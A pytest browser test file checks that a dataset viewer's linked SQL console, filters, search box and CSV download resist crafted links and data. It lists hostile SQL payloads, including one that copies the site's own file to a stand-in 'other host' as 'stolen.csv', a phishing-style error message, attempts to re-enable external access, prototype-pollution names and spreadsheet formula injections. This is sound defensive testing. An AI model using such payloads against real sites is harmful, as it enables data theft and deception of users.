"""The data viewer against crafted links and data (no book build needed).

A small split written by :func:`utils.book.viewer_files.write_split`, whose label values are the names of
``Object.prototype``'s members (``__proto__``, ``constructor``, ``toString``...) and whose text starts
with spreadsheet formula characters, is served on 127.0.0.1 with the viewer's page. A listener on
another loopback address (127.0.0.2) stands for any other host: links whose SQL reads from it, writes
to it, attaches it, globs it or installs an extension must wait for the reader's click and then reach
nothing, neither that listener nor the extension server, and the SQL console must not read the site's
own files. Crafted ``level``, ``sort``, ``f`` and ``r`` values and label values must not stall or
corrupt the viewer; a search is capped; a downloaded CSV neutralises formulas.
"""

from __future__ import annotations

import csv
import http.server
import importlib
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlsplit

import pandas as pd
import pytest
import test_site
from test_viewer_site import PAGE_SIZE, _serve, _wait, open_filters

from utils.book.viewer_files import DIALOGUE, SplitRows, write_split

pytestmark = pytest.mark.browser
browser = test_site.browser

REPO = Path(__file__).resolve().parents[1]
#: Label values that name members of every plain JavaScript object.
PROTO_NAMES = ["__proto__", "constructor", "toString", "hasOwnProperty", "valueOf", "plain"]
#: Text cells a spreadsheet would read as formulas (OWASP's list), and a plain one.
FORMULAS = ["=1+1", "+SUM(A1)", "-2+3", "@cmd", "\tTAB", "\rCR", "plain"]
#: The search box's cap, as the viewer says on screen.
SEARCH_CAP = 200
ROWS = 60


def _crafted_frame() -> pd.DataFrame:
    return pd.DataFrame({
        "id": [f"d{i}" for i in range(ROWS)],
        "mood": [PROTO_NAMES[i % len(PROTO_NAMES)] for i in range(ROWS)],
        "tags": [[PROTO_NAMES[i % 5], PROTO_NAMES[5 - i % 5]] for i in range(ROWS)],  # two different labels
        "formula": [FORMULAS[i % len(FORMULAS)] + f" row {i}" for i in range(ROWS)],
        "size": [i % 7 for i in range(ROWS)],
        DIALOGUE: list(range(ROWS)),
    })


def _install_sql_console(site: Path) -> bool:
    """DuckDB-WASM into the site, as the book's build copies it (False when `make vendor` was not run)."""
    book = importlib.import_module("atlas_book")
    if not all((book.VENDOR / name).is_file() for name in book.VENDOR_FILES):
        return False
    book._copy_vendor(site)
    shim = REPO / "book" / "_static" / "viewer-arrow.mjs"
    (site / "_static" / "viewer-arrow.mjs").write_text(shim.read_text(encoding="utf-8"), encoding="utf-8")
    return True


@pytest.fixture(scope="module")
def crafted_site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Path, pd.DataFrame, bool]]:
    """The viewer's page over one crafted split (dialogues level only). Yields (site, the rows, whether
    the SQL console's files are installed)."""
    from benchmarks import viewer as viewer_bench

    site = tmp_path_factory.mktemp("crafted-viewer")
    frame = _crafted_frame()
    rows = SplitRows(frames={"dialogues": frame}, id_columns={"dialogues": "id"})
    write_split(site / "_viewer" / "crafted" / "train", list(range(ROWS)), rows,  # type: ignore[arg-type]
                render=lambda index: f"<p>dialogue {index}</p>",
                meta={"dataset": "crafted", "title": "Crafted", "split": "train", "label": "train (crafted)",
                      "kind": "synthetic", "queries": []})
    viewer_bench.write_page(site, [{"dataset": "crafted", "split": "train", "label": "train (crafted)",
                                    "path": "_viewer/crafted/train/"}])
    patch = pytest.MonkeyPatch()
    patch.syspath_prepend(str(REPO / "book" / "_ext"))
    try:
        installed = _install_sql_console(site)
        yield site, frame, installed
    finally:
        patch.undo()


class _Listener:
    """An HTTP server on 127.0.0.2 (another host, as far as the page is concerned) that records every
    request and answers as a willing server would (CSV text, CORS allowed). It stops itself after
    ``lifetime`` seconds if the test does not stop it first."""

    def __init__(self, lifetime: float = 300.0) -> None:
        self.requests: list[str] = []
        listener = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def _answer(self) -> None:
                listener.requests.append(f"{self.command} {self.path}")
                body = b"a,b\n1,2\n"
                self.send_response(200)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.send_header("Access-Control-Allow-Headers", "*")
                self.send_header("Access-Control-Allow-Methods", "GET, HEAD, PUT, POST, OPTIONS")
                self.send_header("Content-Type", "text/csv")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                if self.command != "HEAD":
                    self.wfile.write(body)

            do_GET = do_HEAD = do_PUT = do_POST = do_OPTIONS = _answer

            def log_message(self, format: str, *args: Any) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.2", 0), Handler)
        self.url = f"http://127.0.0.2:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        self.timer = threading.Timer(lifetime, self.stop)
        self.timer.daemon = True
        self.timer.start()

    def stop(self) -> None:
        self.timer.cancel()
        self.server.shutdown()
        self.server.server_close()


def _recording_page(browser: Any) -> tuple[Any, Any, list[str], list[str]]:
    """A page whose every request (the DuckDB worker's included) is recorded. Nothing is routed to
    127.0.0.1 or 127.0.0.2 (a request there must be able to arrive, or the test proves nothing);
    any other host is refused at once (this machine reaches no other host anyway)."""
    context = browser.new_context(viewport={"width": 1280, "height": 900}, accept_downloads=True)
    requests: list[str] = []
    context.on("request", lambda request: requests.append(request.url))
    context.route(lambda url: urlsplit(url).hostname not in ("127.0.0.1", "127.0.0.2", None),
                  lambda route: route.abort())
    page = context.new_page()
    errors: list[str] = []
    page.on("pageerror", lambda error: errors.append(f"{error.name}: {error.message}"))
    return context, page, requests, errors


def _link(base: str, **params: str) -> str:
    return base + "#viewer=crafted/train" + "".join(f"&{key}={quote(value, safe='')}" for key, value in params.items())


def _sql_settled(page: Any, holder: Any) -> str:
    page.wait_for_function("el => ['done', 'error'].includes(el.getAttribute('data-sql-state'))",
                           arg=holder.element_handle(), timeout=60_000)
    return holder.get_attribute("data-sql-state")


def _run_typed(page: Any, holder: Any, sql: str) -> tuple[str, str]:
    holder.locator(".atlas-viewer-sqltext").fill(sql)
    holder.locator(".atlas-viewer-run").click()
    state = _sql_settled(page, holder)
    return state, holder.locator(".atlas-viewer-sqlstatus").text_content()


def test_linked_sql_waits_for_a_click_and_reaches_no_other_host(crafted_site: Any, browser: Any) -> None:
    site, frame, installed = crafted_site
    if not installed:
        pytest.skip("the SQL console's files are not installed (make vendor)")
    server = _serve(site)
    listener = _Listener()
    origin = f"http://127.0.0.1:{server.server_address[1]}"
    base = origin + "/index.html"
    other = listener.url
    own_file = f"{origin}/_viewer/crafted/train/manifest.json"
    payloads = [
        f"SELECT * FROM read_csv('{other}/x.csv')",
        f"SELECT * FROM read_text('{other}/x.txt')",
        f"ATTACH '{other}/x.duckdb' AS elsewhere",
        f"COPY (SELECT 1) TO '{other}/out.csv'",
        f"SELECT * FROM glob('{other}/*.csv')",
        "INSTALL json",
        "LOAD json",
        """SELECT '{"a":1}'::JSON AS j""",
        f"SELECT * FROM read_parquet('{other}/x.parquet')",
        # the site's own file, sent out: refused at the read
        f"COPY (SELECT content FROM read_text('{own_file}')) TO '{other}/stolen.csv'",
        # a message the link's author makes DuckDB say: shown as the query's, not under the atlas's name
        "SELECT error('Your session has expired: sign in again at the address in this message')",
    ]
    context, page, requests, errors = _recording_page(browser)
    try:
        outcomes = {}
        for number, sql in enumerate(payloads):
            link = _link(base, level="dialogues", sql=sql)
            if number == 0:
                page.goto(link, wait_until="load")
            else:  # the same page, a new link: DuckDB already started and locked
                page.evaluate("hash => { window.location.hash = hash; }", "#" + link.split("#", 1)[1])
            holder = page.locator(".atlas-viewer")
            _wait(holder)
            page.wait_for_function("([el, sql]) => el.querySelector('.atlas-viewer-sqltext') && "
                                   "el.querySelector('.atlas-viewer-sqltext').value === sql",
                                   arg=[holder.element_handle(), sql])
            # shown, said to wait for the reader, and not run
            page.wait_for_timeout(700)
            assert holder.get_attribute("data-sql-state") == "waiting", sql
            assert holder.locator(".atlas-viewer-sql").get_attribute("open") is not None
            note = holder.locator(".atlas-viewer-sqlpending").text_content()
            assert "runs only when you press Run" in note
            if number == 0:
                assert not [url for url in requests if "duckdb" in url], "DuckDB started before the click"
            assert listener.requests == [], sql
            holder.locator(".atlas-viewer-run").click()
            state = _sql_settled(page, holder)
            shown = holder.locator(".atlas-viewer-sqlerror")
            error = shown.text_content() if shown.is_visible() else ""
            outcomes[sql] = (state, holder.locator(".atlas-viewer-sqlstatus").text_content(), error)
        # every payload refused: INSTALL and LOAD before DuckDB answers (DuckDB-WASM says "Success" to
        # INSTALL), the others with DuckDB's reason, shown apart as the linked query's own error
        for sql, (state, status, _error) in outcomes.items():
            assert state == "error", (sql, status)
        for sql in ("INSTALL json", "LOAD json"):
            state, status, error = outcomes[sql]
            assert status.startswith("Not run: the query has") and "no extension" in status and error == "", status
        assert "no extension" in outcomes[payloads[7]][1], outcomes[payloads[7]]
        assert "INSTALL json" not in outcomes[payloads[7]][2], outcomes[payloads[7]]
        assert "disabled" in outcomes[payloads[0]][2].lower(), outcomes[payloads[0]]
        state, status, error = outcomes[payloads[-1]]
        assert "session has expired" in error and "session" not in status, (status, error)
        assert "came with the link" in status
        # typed: the same site's file read directly, the settings turned back on
        holder = page.locator(".atlas-viewer")
        state, status = _run_typed(page, holder, f"SELECT content FROM read_text('{own_file}')")
        assert state == "error" and "manifest" not in holder.locator(".atlas-viewer-result").text_content(), status
        for sql in ("SET enable_external_access = true", "SET autoload_known_extensions = true",
                    "SET autoinstall_known_extensions = true", "SET lock_configuration = false",
                    "RESET lock_configuration", f"SELECT * FROM read_csv('{other}/typed.csv')"):
            state, status = _run_typed(page, holder, sql)
            assert state == "error", (sql, status)
        # the console still answers about the split's own rows
        state, status = _run_typed(page, holder, "SELECT count(*) AS n FROM dialogues")
        assert state == "done", status
        assert holder.locator(".atlas-viewer-result tbody td").first.text_content() == str(len(frame))
        page.wait_for_timeout(500)
        assert listener.requests == [], "a request reached the other host"
        assert not [url for url in requests if "extensions.duckdb.org" in url], "an extension was fetched"
        foreign = [url for url in requests if not url.startswith((origin + "/", "blob:", "data:"))]
        assert foreign == [], "the page asked another origin"
        assert any(url.endswith("duckdb-eh.wasm") for url in requests), "DuckDB never started: the test proved nothing"
        assert errors == [], errors
    finally:
        context.close()
        listener.stop()
        server.shutdown()
        server.server_close()


#: Crafted view parameters (name, value) and the rows the viewer must then show.
PROTO_LINKS = [
    ({"level": "__proto__"}, None),
    ({"level": "constructor"}, None),
    ({"level": "toString"}, None),
    ({"level": "dialogues", "sort": "__proto__"}, None),
    ({"level": "dialogues", "sort": "constructor"}, None),
    ({"level": "dialogues", "sort": "hasOwnProperty", "desc": "1"}, None),
    ({"level": "dialogues", "f": "__proto__=x"}, None),
    ({"level": "dialogues", "f": "constructor=x"}, None),
    ({"level": "dialogues", "f": "toString=toString"}, None),
    ({"level": "dialogues", "r": "__proto__=1~2"}, None),
    ({"level": "dialogues", "r": "constructor=~3"}, None),
    ({"level": "dialogues", "row": "__proto__"}, None),
    ({"level": "dialogues", "f": "mood=__proto__"}, ("mood", "__proto__")),
    ({"level": "dialogues", "f": "mood=constructor"}, ("mood", "constructor")),
    ({"level": "dialogues", "f": "tags=toString"}, ("tags", "toString")),
]


def test_crafted_links_with_object_member_names_do_not_stall(crafted_site: Any, browser: Any) -> None:
    site, frame, _ = crafted_site
    server = _serve(site)
    base = f"http://127.0.0.1:{server.server_address[1]}/index.html"
    context, page, _, errors = _recording_page(browser)
    try:
        for params, label in PROTO_LINKS:
            page.goto("about:blank")
            page.goto(_link(base, **params), wait_until="load")
            holder = page.locator(".atlas-viewer")
            _wait(holder)  # within 60 s, else it stalled
            assert holder.locator(".atlas-viewer-count").text_content().endswith("dialogues rows match"), params
            if label is None:
                expected = ROWS
            else:
                column, value = label
                expected = int(frame[column].map(lambda cell, v=value: v in cell if isinstance(cell, list)
                                                 else cell == v).sum())
            assert int(holder.get_attribute("data-matches")) == expected, params
            assert holder.locator(".atlas-viewer-grid tbody tr").count() == min(PAGE_SIZE, expected), params
        assert errors == [], errors
    finally:
        context.close()
        server.shutdown()
        server.server_close()


def test_label_values_named_like_object_members_count_filter_and_summarise(crafted_site: Any, browser: Any) -> None:
    site, frame, _ = crafted_site
    server = _serve(site)
    base = f"http://127.0.0.1:{server.server_address[1]}/index.html"
    context, page, _, errors = _recording_page(browser)
    try:
        page.goto(_link(base, level="dialogues"), wait_until="load")
        holder = page.locator(".atlas-viewer")
        _wait(holder)
        open_filters(holder)
        moods = frame["mood"].value_counts().to_dict()
        tags = pd.Series([tag for cell in frame["tags"] for tag in cell]).value_counts().to_dict()
        for column, counts in (("mood", moods), ("tags", tags)):
            chips = holder.locator(f"fieldset[data-column='{column}'] label[data-value]")
            shown = {chip.get_attribute("data-value"): int(chip.get_attribute("data-count")) for chip in chips.all()}
            assert shown == counts, column
        # ticking "toString" and "__proto__": the rows holding either, and the chips of the other column
        for value in ("toString", "__proto__"):
            holder.locator(f"fieldset[data-column='mood'] label[data-value='{value}'] input").check()
        chosen = frame[frame["mood"].isin(["toString", "__proto__"])]
        page.wait_for_function("([el, n]) => el.getAttribute('data-matches') === String(n)",
                               arg=[holder.element_handle(), len(chosen)])
        assert "f=mood%3DtoString" in page.url and "f=mood%3D__proto__" in page.url
        within = pd.Series([tag for cell in chosen["tags"] for tag in cell]).value_counts()
        for value in PROTO_NAMES:
            chip = holder.locator(f"fieldset[data-column='tags'] label[data-value='{value}']")
            if chip.count():
                assert int(chip.get_attribute("data-count")) == int(within.get(value, 0)), value
        # the column statistics of the filtered rows
        holder.locator(".atlas-viewer-stats > summary").click()
        for column, counts in (("mood", chosen["mood"].value_counts().to_dict()), ("tags", within.to_dict())):
            box = holder.locator(f".atlas-viewer-stat[data-column='{column}']")
            # the panel is drawn after the click: wait for its values rather than read an empty box
            box.locator("li[data-value]").first.wait_for(state="attached", timeout=60_000)
            shown = {li.get_attribute("data-value"): int(li.get_attribute("data-count"))
                     for li in box.locator("li[data-value]").all()}
            assert shown == counts, column
        # the link restores the filter
        page.reload()
        holder = page.locator(".atlas-viewer")
        _wait(holder)
        assert int(holder.get_attribute("data-matches")) == len(chosen)
        assert errors == [], errors
    finally:
        context.close()
        server.shutdown()
        server.server_close()


def test_a_search_is_capped_in_length_and_time(crafted_site: Any, browser: Any) -> None:
    site, _, _ = crafted_site
    server = _serve(site)
    base = f"http://127.0.0.1:{server.server_address[1]}/index.html"
    huge = " ".join(f"w{i}" for i in range(100_000))
    context, page, _, errors = _recording_page(browser)
    try:
        # from a link: cut to the cap, said so, and the page answers at once
        started = time.monotonic()
        page.goto(_link(base, level="dialogues", q=huge), wait_until="load")
        holder = page.locator(".atlas-viewer")
        _wait(holder)
        assert time.monotonic() - started < 10
        search = holder.locator(".atlas-viewer-search")
        assert len(search.input_value()) <= SEARCH_CAP
        assert f"{SEARCH_CAP} characters" in holder.locator(".atlas-viewer-searchrow").text_content()
        assert int(holder.get_attribute("data-refresh-ms")) < 2000
        assert page.evaluate("() => 1 + 1") == 2  # the tab answers
        # pasted (a script sets the value past the box's maxlength): cut as well
        page.evaluate("([el, text]) => { const input = el.querySelector('.atlas-viewer-search'); input.value = text; "
                      "input.dispatchEvent(new Event('input')); }", [holder.element_handle(), "x " + huge])
        page.wait_for_function("el => el.getAttribute('data-search-cut') === '1'", arg=holder.element_handle())
        _wait(holder)
        assert len(holder.get_attribute("data-search")) <= SEARCH_CAP
        assert int(holder.get_attribute("data-refresh-ms")) < 2000
        assert "q=" in page.url and len(page.url) < len(base) + 2000
        assert errors == [], errors
    finally:
        context.close()
        server.shutdown()
        server.server_close()


def test_a_downloaded_csv_neutralises_formulas(crafted_site: Any, browser: Any) -> None:
    site, frame, installed = crafted_site
    if not installed:
        pytest.skip("the SQL console's files are not installed (make vendor)")
    server = _serve(site)
    base = f"http://127.0.0.1:{server.server_address[1]}/index.html"
    context, page, _, errors = _recording_page(browser)
    try:
        page.goto(_link(base, level="dialogues"), wait_until="load")
        holder = page.locator(".atlas-viewer")
        _wait(holder)
        holder.locator(".atlas-viewer-sql > summary").click()
        state, status = _run_typed(page, holder, 'SELECT formula, size, -size AS negative, 1 AS "=head" FROM dialogues')
        assert state == "done", status
        with page.expect_download() as download_info:
            holder.locator(".atlas-viewer-download").click()
        with open(download_info.value.path(), encoding="utf-8", newline="") as downloaded:  # keeps a cell's "\r"
            rows = list(csv.reader(downloaded))
        assert rows[0] == ["formula", "size", "negative", "'=head"]
        by_text = {row[0].lstrip("'"): row for row in rows[1:]}
        for value in frame["formula"]:
            cell = by_text[value][0]
            dangerous = value[0] in "=+-@\t\r"
            assert cell == ("'" + value if dangerous else value), value
        # numbers stay numbers (a negative number is not a formula)
        assert sorted(int(row[2]) for row in rows[1:]) == sorted(-frame["size"])
        assert errors == [], errors
    finally:
        context.close()
        server.shutdown()
        server.server_close()
